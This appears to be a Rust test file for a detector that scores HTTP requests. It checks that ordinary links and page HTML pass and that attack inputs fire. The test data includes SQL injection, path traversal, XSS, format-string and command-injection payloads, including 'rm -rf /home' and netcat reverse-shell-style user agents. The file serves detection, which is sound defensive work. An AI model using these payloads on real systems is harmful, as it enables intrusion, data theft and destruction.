//! Links and lines that were copied out of a page's source, as crawlers and people send them.

use super::*;

fn loud(request: &Request<'_>) -> Vec<Hit> {
    hits(request).into_iter().filter(|hit| hit.score >= THRESHOLD).collect()
}

fn of_target(target: &str) -> Vec<Hit> {
    loud(&Request { method: b"GET", target: target.as_bytes(), status: 200, ..Request::default() })
}

/// A text as a form of a page sends it.
fn of_text(text: &str) -> Vec<Hit> {
    let encoded: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
    of_target(&format!("/a?q={encoded}"))
}

#[test]
fn a_link_with_its_references_joins_the_same_parameters() {
    for target in [
        "/index.php?op=news&amp;id=1007",
        "/view?bid=1&amp;amp;id=7395345&amp;sty=1",
        "/news.asp?ID=22&amp;amp;type=A&lt;/a&gt;&lt;br&gt;",
        "/mt.cgi?__mode=view&amp;_type=entry&amp;id=1414",
    ] {
        assert!(of_target(target).is_empty(), "{target}: {:?}", of_target(target));
    }
    for target in ["/a?x=1&amp;q=%27%20or%201=1--%20", "/a?x=1;id", "/a?x=1%26id%26"] {
        assert!(!of_target(target).is_empty(), "{target}");
    }
}

#[test]
fn addresses_of_sites_are_no_attacks() {
    for target in [
        "/cgi-bin/board/tt.cgi?act=read&db=seoul&page=1&idx=28",
        "/board.php?act=sort&page=1",
        "/bin/en.jsp?script=Print.jsp&who=Articles^l1189",
        "/projects/git%2Bgithub.com%2Foauthlib%2Foauthlib?ref=badge_shield",
        "/.shared/image.html?/photos/uncategorized/060104.jpg",
        "/?w=//833069",
        // <svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9v9H0z"/></svg>
        "/badge.svg?logo=data%3Aimage%2Fsvg%2Bxml%3Bbase64%2CPHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxwYXRoIGQ9Ik0wIDBoOXY5SDB6Ii8%2BPC9zdmc%2B",
    ] {
        assert!(of_target(target).is_empty(), "{target}: {:?}", of_target(target));
    }
    for target in [
        "/x.php?act=id",
        "/x.php?act=whoami",
        "/x.php?cmd=sort%20/etc/hosts",
        "/?w=//2130706433/",
        // <svg onload=alert(1)>
        "/badge.svg?logo=data%3Aimage%2Fsvg%2Bxml%3Bbase64%2CPHN2ZyBvbmxvYWQ9YWxlcnQoMSk%2B",
    ] {
        assert!(!of_target(target).is_empty(), "{target}");
    }
}

#[test]
fn lines_of_a_page_are_no_probes() {
    for text in [
        "</span><span class=\"boring\">    let x = 1;",
        "</li><li>build fixes</li>",
        "</pre><p>Namespace for math functions</p>",
        "<h3 id=\"more-information\">More Information</h3>",
        "<a href=\"../../reference/attributes.html#deprecated\">deprecate</a> the old one.",
        "<input type=\"hidden\" name=\"page\" value=\"3\" />",
        "-out ryans.pfx</code> <button class=\"copy-button\">copy</button></pre>",
        "<p>To test it, run the following JavaScript:</p>",
        "pub fn example&lt;T, U&gt;() {}</code></pre>",
        "<code class=\"option\">--leak-check=&lt;no|summary|yes|full&gt; </code>",
        "still outstanding. The first <code>setImmediate()</code> attempts to",
        "<html class=\"no-js\" lang=\"en\">",
        "<body class=\"page home\">",
        "</head>",
        "<title>Guide &mdash; Docs</title>",
        "<meta charset=\"utf-8\" />",
        "<meta http-equiv=\"X-UA-Compatible\" content=\"IE=edge\">",
        "<link rel=\"next\" title=\"Install\" href=\"../install.html\" />",
        "</span><link rel=\"mw-deduplicated-inline-style\" href=\"mw-data:TemplateStyles:r1\"/>",
        "<link rel='dns-prefetch' href='//a.example' />",
        "<script src=\"../_static/js/theme.js?v=2.1\"></script>",
        "<script type=\"application/ld+json\">{\"name\": \"a\"}</script>",
        "</script>",
        "<form id=\"search\" action=\"../search.html\" method=\"get\">",
        "<input type=\"text\" name=\"q\" placeholder=\"Search docs\" />",
        "<noscript><img src=\"/pixel.png\" alt=\"\"></noscript>",
        "<table class=\"wikitable\" style=\"background:#fff; float:right\">",
        "</tr><tr><th style=\"background:#ffc0c0; width:1%\">People</th>",
        "</span>. <span title=\"rft_id=https://a.example/b\">",
        "<span data-root=\"../../\" id=\"a\"></span>",
        "a &#60; b, c &#060; d &#x3c; e &#x003c; f",
    ] {
        assert!(of_text(text).is_empty(), "{text}: {:?}", of_text(text));
    }
    for text in [
        "</title><h1>x</h1>",
        "</textarea><b>x</b>",
        "\"><h1>x</h1>",
        "<h1>x</h1>",
        "<input autofocus onfocus=alert(1) id=\"a\">",
        "<button id=\"a\" formaction=\"//a.example\">x</button>",
        "<html onclick=alert(1)>",
        "<body class=\"a\" background=\"javascript:alert(1)\">",
        "<title>a</title><script>alert(1)</script>",
        "<meta http-equiv=\"refresh\" content=\"0;url=//a.example\">",
        "<meta charset=\"utf-7\">",
        "<link rel=\"stylesheet\" href=\"//a.example/a.css\">",
        "<link rel=\"icon\" rel=\"import\" href=\"/a\">",
        "<link rel=import href=/a>",
        "<link rel=\"a\" href=\"data:text/css,a\">",
        "<script src=\"//a.example/a.js\"></script>",
        "<script src=\"/\\a.example/a.js\"></script>",
        "<script src=\"a.js\" src=\"//a.example/a.js\">",
        "<script src=\"a.js\">alert(1)</script>",
        "<script src=\"/a/jsonp?callback=alert\"></script>",
        "<script type=\"text/javascript\">a</script>",
        "</script><h1>x</h1>",
        "<form id=\"a\" action=\"//a.example\">",
        "</p><div style=\"position:fixed;top:0\">x</div>",
        "</p><img src=//a.example/a>",
        "&#x0003c",
        "&#0000060;b",
        "<a href=\"../../../../etc/passwd\">x</a>",
        "<p>javascript:alert(1)</p>",
        "x<'\">y",
    ] {
        assert!(!of_text(text).is_empty(), "{text}");
    }
}

#[test]
fn remapped_separators_streams_and_format_strings_fire() {
    for text in [
        "0x2e0x2e0x5c0x2e0x2e0x5cboot.ini",
        "..%uF025..%uF025boot.ini",
        "..%uEFC8boot.ini",
        "index::$DATA",
        "%8.8x|%8.8x|%8.8x|%8.8x",
        "%s%s%s%s%n",
        "%p.%p.%p.%p",
    ] {
        assert!(!of_text(text).is_empty(), "{text}");
    }
    for text in ["%Y-%m-%d %H:%M", "%s %s %s %s", "100% sure", "$DATA", "0x2e"] {
        assert!(of_text(text).is_empty(), "{text}: {:?}", of_text(text));
    }
}

/// What an exception for copied pages must not let through.
#[test]
fn attacks_in_the_clothes_of_a_page_fire() {
    for text in [
        "127.0.0.1&lt;whoami",
        "x&gt;uname -a",
        "x&gt;python3 -c 'import os'",
        "x&quot;ls -la",
        "x&gt;sleep 10",
        "x&lt;cat secrets.txt",
        "a&lt;rm -rf /home",
        "x&nbsp;whoami",
        "x&#59;sleep 10",
        "<img src=\"../../../../../../srv/app/config.py\">",
        "<src=\"../../../../../../home/user/secret.txt",
        "</a><a href=\"//evil.example\">Click here to log in</a>",
        "</div><div style=\"position:fixed;top:0;left:0\">login</div>",
        "</a><img src=x>",
        "<input id=\"q\" type=\"image\" src=\"//evil.example/x\">",
        "<button class=\"x\" type=\"submit\" form=\"login\">",
        "<code>alert()",
    ] {
        assert!(!of_text(text).is_empty(), "{text}");
    }
    for target in [
        "/x.php?act=ls&d=%2Fvar%2Fwww",
        "/x.php?act=ps",
        "/x.php?c=df",
        "/x.php?command=uptime",
        "/.backup/db.sql.html",
        "/.config/credentials.jpg",
        "/?w=//00/",
    ] {
        assert!(!of_target(target).is_empty(), "{target}");
    }
    for agent in ["x; sleep 5", "x|nc 1.2.3.4 9001", "x; nc 10.0.0.1 4444", "x&&sleep 10"] {
        let request = Request {
            method: b"GET",
            target: b"/",
            user_agent: agent.as_bytes(),
            ..Request::default()
        };
        assert!(!loud(&request).is_empty(), "{agent}");
    }
    let agent =
        b"yacybot (-global; amd64 Linux; java 1.8.0_45; Europe/en) http://yacy.net/bot.html";
    let request = Request { method: b"GET", target: b"/", user_agent: agent, ..Request::default() };
    assert!(loud(&request).is_empty(), "{:?}", loud(&request));
}

#[test]
fn programs_have_formats_and_members_of_their_own() {
    for text in [
        "sprintf('%02x:%02x:%02x:%02x:%02x:%02x', mac)",
        "#%02x%02x%02x%02x",
        "%04x-%04x-%04x-%04x",
        "find . -printf \"%p %s %n %p\"",
        "how to print \"%s%s%s%s\" in C",
        "$self::$data",
        "Foo\\Bar::$data",
        "escape characters <'\">",
        "['\"><]",
    ] {
        assert!(of_text(text).is_empty(), "{text}: {:?}", of_text(text));
    }
    // A list of so many is read once.
    assert!(of_text(&"%s,".repeat(100_000)).is_empty());
}
